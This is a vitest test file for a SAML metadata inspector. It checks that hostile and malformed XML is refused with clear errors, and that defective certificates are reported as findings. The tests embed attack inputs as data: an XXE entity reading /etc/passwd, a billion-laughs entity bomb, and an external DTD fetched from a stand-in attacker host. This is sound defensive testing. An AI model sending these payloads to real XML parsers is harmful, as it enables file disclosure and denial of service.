// Hostile and broken documents: each is refused with a clear error naming the input, or yields the right critical finding.
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { checkMetadata } from "../../../src/domain/checks/metadata-checks.js";
import { BreakglassError } from "../../../src/domain/errors.js";
import { inspectMetadataBytes, inspectMetadataText } from "../../../src/domain/saml/inspect-metadata.js";
import { readMetadataFile } from "../../../src/adapters/metadata/metadata-source.js";
import { readCorpusFile } from "../../support/corpus.js";
import { entityXml } from "../../support/metadata-builder.js";
import { makeCertificate } from "../../support/certificates.js";

function refusal(work: () => unknown): BreakglassError {
  try {
    work();
  } catch (error) {
    expect(error).toBeInstanceOf(BreakglassError);
    return error as BreakglassError;
  }
  throw new Error("expected the input to be refused");
}

const inspect = (text: string) => () => inspectMetadataText(text, "hostile.xml");
const now = new Date();

describe("unsafe XML is refused before it is parsed", () => {
  it("refuses an XXE external entity and never reads the file it names", () => {
    const error = refusal(
      inspect(
        `<?xml version="1.0"?><!DOCTYPE md [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><md:EntityDescriptor ` +
          `xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="&xxe;"/>`,
      ),
    );
    expect(error.code).toBe("XML_UNSAFE");
    expect(error.message).toBe(
      "hostile.xml: refused: the document contains a <!DOCTYPE> declaration (DTDs and entities are not allowed in metadata)",
    );
  });

  it("refuses an entity-expansion bomb without expanding it", () => {
    const levels = Array.from({ length: 10 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("");
    const bomb = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${levels}]><lolz>&lol10;</lolz>`;
    const before = process.memoryUsage().heapUsed;
    const error = refusal(inspect(bomb));
    expect(error.code).toBe("XML_UNSAFE");
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(50 * 1024 * 1024);
  });

  it("refuses an external DTD reference", () => {
    expect(refusal(inspect(`<!DOCTYPE md SYSTEM "https://attacker.example/evil.dtd"><md/>`)).code).toBe("XML_UNSAFE");
  });

  it("refuses a bare ENTITY declaration smuggled without a DOCTYPE", () => {
    expect(refusal(inspect(`<md><!ENTITY x "y"></md>`)).message).toContain("<!ENTITY>");
  });

  it("refuses nesting deeper than the limit instead of exhausting the stack", () => {
    const depth = 100_000;
    const error = refusal(inspect(`${"<a>".repeat(depth)}${"</a>".repeat(depth)}`));
    expect(error.code).toBe("XML_TOO_DEEP");
    expect(error.message).toBe("hostile.xml: refused: elements are nested more than 64 deep");
  });
});

describe("broken input is refused with a one-line reason", () => {
  it.each([
    ["an empty file", "", "INPUT_EMPTY", "hostile.xml: the document is empty"],
    ["only whitespace", " \n\t ", "INPUT_EMPTY", "hostile.xml: the document is empty (only whitespace)"],
    [
      "JSON",
      `{"entityID": "https://idp.example"}`,
      "XML_MALFORMED",
      `hostile.xml: not an XML document: it starts with "{" (JSON?)`,
    ],
    [
      "plain text",
      "Service Unavailable",
      "XML_MALFORMED",
      `hostile.xml: not an XML document: it starts with "Service Unavailable"`,
    ],
  ])("refuses %s", (_name, text, code, message) => {
    const error = refusal(() => inspectMetadataBytes(Buffer.from(text), "hostile.xml"));
    expect(error.code).toBe(code);
    expect(error.message).toBe(message);
  });

  it("refuses a real document cut off halfway and says it looks truncated", () => {
    const whole = readCorpusFile("okta-aws-iam-identity-center.xml");
    const error = refusal(() => inspectMetadataBytes(whole.subarray(0, Math.floor(whole.length / 2)), "okta-half.xml"));
    expect(error.code).toBe("XML_MALFORMED");
    expect(error.message).toMatch(/^okta-half\.xml: not well-formed XML at line \d+, column \d+: .*truncated/);
  });

  it("refuses binary data as not being text", () => {
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0xfe, 0x00, 0x01, 0x80, 0x81]);
    const error = refusal(() => inspectMetadataBytes(png, "logo.png"));
    expect(error.code).toBe("INPUT_ENCODING");
    expect(error.message).toBe("logo.png: the document is not valid UTF-8 text (binary data or the wrong encoding)");
  });

  it("refuses an encoding it cannot read, naming it", () => {
    const error = refusal(() =>
      inspectMetadataBytes(Buffer.from(`<?xml version="1.0" encoding="EBCDIC-US"?><x/>`), "mainframe.xml"),
    );
    expect(error.message).toBe(
      `mainframe.xml: the XML declaration names encoding "EBCDIC-US", which breakglass does not read`,
    );
  });

  it("reads a UTF-16 document with a BOM", () => {
    const utf16 = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(entityXml({ keys: [{ base64: makeCertificate().base64, use: "signing" }] }), "utf16le"),
    ]);
    expect(inspectMetadataBytes(utf16, "utf16.xml").entities[0]?.entityID).toBe("https://idp.example.test/metadata");
  });

  it("refuses a document that is XML but not SAML metadata, naming its root", () => {
    const error = refusal(inspect(`<html xmlns="http://www.w3.org/1999/xhtml"><body>Sign in</body></html>`));
    expect(error.code).toBe("METADATA_NOT_SAML");
    expect(error.message).toBe(
      "hostile.xml: not SAML 2.0 metadata: the root element is <{http://www.w3.org/1999/xhtml}html>, not md:EntityDescriptor or md:EntitiesDescriptor",
    );
  });

  it("refuses an EntityDescriptor in the wrong namespace: names are matched by URI, not by prefix", () => {
    const error = refusal(inspect(`<md:EntityDescriptor xmlns:md="urn:example:not-saml" entityID="x"/>`));
    expect(error.code).toBe("METADATA_NOT_SAML");
  });

  it("refuses an element whose prefix is never declared", () => {
    const error = refusal(inspect(`<md:EntityDescriptor entityID="x"/>`));
    expect(error.message).toBe(
      "hostile.xml: not well-formed XML at line 1, column 2: the element <md:EntityDescriptor> uses the undeclared namespace prefix md",
    );
  });

  it("refuses an EntityDescriptor without an entityID", () => {
    const error = refusal(inspect(`<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata"/>`));
    expect(error.message).toBe("hostile.xml: an EntityDescriptor has no entityID attribute");
  });

  it("refuses a file over the size limit before reading it", async () => {
    const directory = mkdtempSync(join(tmpdir(), "breakglass-"));
    const path = join(directory, "huge.xml");
    writeFileSync(path, Buffer.alloc(2 * 1024 * 1024, 0x20));
    await expect(readMetadataFile(path, 1024 * 1024)).rejects.toThrow(
      `${path}: refused: the file is 2 MB, over the 1 MB limit`,
    );
  });

  it("says which file does not exist", async () => {
    await expect(readMetadataFile("/nonexistent/idp.xml", 1024)).rejects.toThrow("/nonexistent/idp.xml: no such file");
  });
});

describe("defective certificates are findings, not crashes", () => {
  it("reports base64 that is not a certificate as CERT_UNPARSEABLE and the IdP as having no valid signing certificate", () => {
    const inspection = inspectMetadataText(
      entityXml({ keys: [{ base64: Buffer.from("not a certificate").toString("base64"), use: "signing" }] }),
      "bad-cert.xml",
    );
    const codes = checkMetadata(inspection, { now, warnDays: 30 }).map((finding) => finding.code);
    expect(codes.sort()).toEqual(["CERT_UNPARSEABLE", "NO_VALID_SIGNING_CERT"]);
    expect(inspection.entities[0]?.certificates[0]).toMatchObject({
      facts: null,
      error: expect.stringContaining("not a valid DER certificate"),
    });
  });

  it("reports text that is not base64 at all", () => {
    const inspection = inspectMetadataText(
      entityXml({ keys: [{ base64: "%%%not-base64%%%", use: "signing" }] }),
      "bad-cert.xml",
    );
    expect(inspection.entities[0]?.certificates[0]).toMatchObject({
      facts: null,
      error: "the X509Certificate text is not valid base64",
    });
  });
});

describe("entity references without a DTD", () => {
  it("refuses an undefined entity, naming it and where it is", () => {
    const error = refusal(
      inspect(
        `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"\n entityID="https://idp.example/&bogus;"/>`,
      ),
    );
    expect(error.message).toBe("hostile.xml: not well-formed XML at line 2, column 32: undefined entity &bogus;");
  });

  it("refuses a bare ampersand", () => {
    expect(refusal(inspect(`<a>fish & chips</a>`)).message).toBe(
      "hostile.xml: not well-formed XML at line 1, column 9: a bare & (write &amp;)",
    );
  });

  it("accepts the predefined entities and character references", () => {
    const inspection = inspectMetadataText(
      entityXml({ entityID: "https://idp.example/?a=1&amp;b=&#50;&#x33;" }),
      "ok.xml",
    );
    expect(inspection.entities[0]?.entityID).toBe("https://idp.example/?a=1&b=23");
  });
});

describe("ampersands where XML allows them", () => {
  it("accepts a literal & inside a comment or a CDATA section", () => {
    const xml = entityXml({ keys: [{ base64: makeCertificate().base64, use: "signing" }] }).replace(
      "<md:IDPSSODescriptor",
      "<!-- Terms & Conditions --><md:IDPSSODescriptor",
    );
    expect(inspectMetadataText(xml, "commented.xml").entities).toHaveLength(1);
    const cdata = entityXml().replace("</md:NameIDFormat>", "<![CDATA[ & ]]></md:NameIDFormat>");
    expect(() => inspectMetadataText(cdata, "cdata.xml")).not.toThrow();
  });
});
